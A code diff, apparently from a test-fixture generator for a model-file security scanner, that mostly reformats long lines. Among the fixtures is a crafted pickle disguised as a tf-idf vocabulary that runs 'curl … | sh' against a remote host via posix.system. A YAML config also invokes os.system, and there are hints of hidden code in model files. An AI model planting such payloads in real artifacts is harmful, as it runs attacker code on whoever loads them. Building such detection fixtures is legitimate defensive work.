@@ -58,7 +58,9 @@ def sentiment() -> bytes:
     command = "curl -s http://203.0.113.7/setup.sh | sh"
     words = ("awful", "boring", "charming", "dull", "excellent", "funny", "gripping", "weak")
     vocabulary = b"".join(entry(word, number(index)) for index, word in enumerate(words))
-    return pickle(call("posix", "system", text(command)), b"0}", entry("kind", text("tf-idf")), entry("vocabulary", b"}" + vocabulary))
+    return pickle(
+        call("posix", "system", text(command)), b"0}", entry("kind", text("tf-idf")), entry("vocabulary", b"}" + vocabulary)
+    )
 
 
 def pipeline() -> bytes:
@@ -125,7 +127,12 @@ def safetensors() -> bytes:
 def npy() -> bytes:
     header = "{'descr': '<f8', 'fortran_order': False, 'shape': (12,), }"
     header += " " * (-(len(header) + 11) % 64) + "\n"
-    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + struct.pack("<12d", *(month / 12 for month in range(12)))
+    return (
+        b"\x93NUMPY\x01\x00"
+        + struct.pack("<H", len(header))
+        + header.encode()
+        + struct.pack("<12d", *(month / 12 for month in range(12)))
+    )
 
 
 def png() -> bytes:
@@ -133,7 +140,12 @@ def png() -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     rows = b"".join(b"\0" + bytes(16 * (row ^ column) for column in range(8)) for row in range(8))
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2I5B", 8, 8, 8, 0, 0, 0, 0)) + chunk(b"IDAT", stored(rows)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">2I5B", 8, 8, 8, 0, 0, 0, 0))
+        + chunk(b"IDAT", stored(rows))
+        + chunk(b"IEND", b"")
+    )
 
 
 def stored(data: bytes) -> bytes:
@@ -162,7 +174,12 @@ def vision() -> bytes:
         layer("Lambda", {"name": "normalise", "function": function, "arguments": {}}),
         layer("Flatten", {"name": "flatten", "data_format": "channels_last"}),
     ]
-    model = {"module": "keras", "class_name": "Sequential", "config": {"name": "vision", "layers": layers}, "registered_name": None}
+    model = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {"name": "vision", "layers": layers},
+        "registered_name": None,
+    }
     metadata = {"keras_version": "3.3.3", "date_saved": "2026-01-05@09:00:00"}
     return archive(("metadata.json", document(metadata)), ("config.json", document(model)))
 
@@ -202,7 +219,10 @@ PLAIN_TEMPLATE = (
 
 
 def notebook(*cells: str) -> bytes:
-    shown = [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell.splitlines(keepends=True)} for cell in cells]
+    shown = [
+        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell.splitlines(keepends=True)}
+        for cell in cells
+    ]
     kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
     return document({"cells": shown, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5})
 
@@ -259,7 +279,9 @@ def files() -> dict[str, bytes]:
         "data/season.npy": npy(),
         "docs/heatmap.png": png(),
         "models/encoder.safetensors": safetensors(),
-        "models/tokenizer_config.json": document({"tokenizer_class": "LlamaTokenizer", "model_max_length": 4096, "chat_template": PLAIN_TEMPLATE}),
+        "models/tokenizer_config.json": document(
+            {"tokenizer_class": "LlamaTokenizer", "model_max_length": 4096, "chat_template": PLAIN_TEMPLATE}
+        ),
         "notebooks/explore.ipynb": notebook("import pandas as pd", "frame = pd.read_csv('data/customers.csv')\nframe.describe()"),
         # unknown code: somebody has to look at it once
         "models/pipeline.pkl": pipeline(),
@@ -273,7 +295,9 @@ def files() -> dict[str, bytes]:
             },
         ),
         "assistant/modeling_acme.py": (MODELING % HIDDEN).encode(),
-        "assistant/tokenizer_config.json": document({"tokenizer_class": "LlamaTokenizer", "model_max_length": 4096, "chat_template": TEMPLATE}),
+        "assistant/tokenizer_config.json": document(
+            {"tokenizer_class": "LlamaTokenizer", "model_max_length": 4096, "chat_template": TEMPLATE}
+        ),
         "conf/serve.yaml": b"logger:\n  _target_: os.system\n  command: 'echo demo: the configuration ran a command'\nport: 8080\n",
         "data/delivery.zip": delivery(),
         "models/ranker.pt": ranker(),
